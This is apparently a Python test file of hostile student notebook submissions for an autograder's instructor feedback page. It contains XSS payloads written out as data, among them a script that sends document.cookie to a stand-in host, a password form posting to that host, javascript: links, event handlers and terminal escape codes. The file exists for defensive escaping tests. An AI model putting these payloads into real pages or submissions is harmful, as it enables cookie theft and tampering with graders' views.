"""What reaches the instructor's browser: a page of feedback, made of what a student shows and writes."""

from __future__ import annotations

from typing import Any

from hostile.case import Deserves, Family, Handed
from nbformat.v4 import new_output

SCRIPT = "<script>document.title = 'mine'; fetch('http://192.0.2.1/' + document.cookie)</script>"
IMAGE = "<img src='http://192.0.2.1/seen.png' onerror='alert(1)'>"
family = Family("the page of feedback")


def shows(name: str, tries: str, code: str, deserves: Deserves = Deserves.ALL) -> None:
    family.code(name, tries, code, answer=False, page=True, deserves=deserves)


def writes(name: str, tries: str, change: Any) -> None:
    family.case(name, tries, change, page=True, deserves=Deserves.ALL)


def bundle(kind: str, text: str) -> str:
    return f"from IPython.display import display\ndisplay({{{kind!r}: {text!r}}}, raw=True)"


shows("page-script", "shows HTML with a script", bundle("text/html", SCRIPT))
shows(
    "page-image",
    "shows an image from elsewhere, with a handler for when that fails",
    bundle("text/html", IMAGE),
)
shows(
    "page-iframe",
    "shows frames, forms, objects, a base and a refresh",
    bundle(
        "text/html",
        "<iframe srcdoc='<script>1</script>'></iframe><object data='x.swf'></object><base href='//192.0.2.1'>"
        "<form action='//192.0.2.1'><input name='password'></form><meta http-equiv='refresh' "
        "content='0;//x'>",
    ),
)
shows(
    "page-style",
    "shows a style that hides the comments and asks the network",
    bundle(
        "text/html",
        "<style>h4{display:none} body{background:url(//192.0.2.1)}</style><p style='background:url(//x)'>",
    ),
)
shows(
    "page-svg",
    "shows a picture in SVG with a script and a handler",
    bundle("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{SCRIPT}</svg>"),
)
shows("page-javascript", "shows JavaScript", bundle("application/javascript", "alert(document.cookie)"))
shows(
    "page-latex",
    "shows LaTeX with a link that runs a script",
    bundle("text/latex", r"$\href{javascript:alert(1)}{x}$"),
)
shows(
    "page-markdown",
    "shows Markdown with HTML and with a link that runs a script",
    bundle("text/markdown", f"[x](javascript:alert(1)) {SCRIPT}{IMAGE}"),
)
shows(
    "page-widget",
    "shows a widget whose state holds a script",
    bundle("application/vnd.jupyter.widget-view+json", "{'model_id': '</script>" + SCRIPT + "'}"),
)
shows(
    "page-png",
    "shows a picture whose data ends the attribute that it is put into",
    bundle("image/png", '"><script>alert(1)</script><img src="'),
)
shows(
    "page-print",
    "prints HTML, and signs that steer a terminal",
    f"print({SCRIPT + IMAGE!r}, '\\x1b]0;mine\\x07\\x1b[31m')",
)
shows(
    "page-error",
    "raises an error whose name and text are HTML",
    f"Mine = type({'</pre>' + SCRIPT!r}, (Exception,), {{}})\nraise Mine({SCRIPT + IMAGE!r})",
)
family.code(
    "page-finding",
    "has its error quoted by the judge: the text, the line and the function are HTML",
    f"def attention(q, k, v, mask=None):\n    raise ValueError({'`</code>' + SCRIPT!r})  # {IMAGE}",
    page=True,
)
family.code(
    "page-type",
    "returns an object whose type's name is HTML",
    f"Mine = type({SCRIPT!r}, (), {{}})\ndef attention(q, k, v, mask=None):\n    return Mine()",
    page=True,
)


def text_cell(handed: Handed) -> None:
    handed.add(
        f"# {SCRIPT}\n{IMAGE}\n\n"
        f"[x](javascript:alert(1)) $\\href{{javascript:alert(1)}}{{x}}$ <svg onload=alert(1)>",
        kind="markdown",
    )


def raw_cell(handed: Handed) -> None:
    cell = handed.add(SCRIPT, kind="raw")
    cell.metadata["raw_mimetype"] = cell.metadata["format"] = "text/html"


def attachment(handed: Handed) -> None:
    cell = handed.add("![x](attachment:x.png) ![y](attachment:y.svg)", kind="markdown")
    cell["attachments"] = {
        "x.png": {"image/png": f'">{SCRIPT}'},
        "y.svg": {"image/svg+xml": f"<svg>{SCRIPT}</svg>"},
    }


def metadata(handed: Handed) -> None:
    for cell in handed.notebook.cells:
        cell.metadata |= {"name": SCRIPT, "tags": [f'">{SCRIPT}'], "jupyter": {"source_hidden": True}}
    handed.notebook.metadata |= {
        "title": SCRIPT,
        "authors": [{"name": SCRIPT}],
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": f"</script>{SCRIPT}"}}},
        "language_info": {"name": f'python">{SCRIPT}', "pygments_lexer": f"x{SCRIPT}"},
    }


def own_ids(handed: Handed) -> None:
    cell = handed.add("1 + 1")
    cell["id"] = "x"
    cell.metadata["nbgrader"] = {
        "grade_id": f'x">{SCRIPT}',
        "solution": True,
        "grade": False,
        "locked": False,
        "schema_version": 3,
    }


def old_outputs(handed: Handed) -> None:
    for cell in handed.notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [new_output("display_data", data={"text/html": SCRIPT + IMAGE})]


writes("page-text-cell", "writes HTML into a text cell", text_cell)
writes("page-raw-cell", "writes HTML into a raw cell", raw_cell)
writes("page-attachment", "attaches pictures that are HTML", attachment)
writes("page-metadata", "writes HTML into the metadata of cells and notebook", metadata)
writes("page-ids", "names a cell with HTML", own_ids)
writes("page-old-outputs", "hands in outputs with scripts", old_outputs)
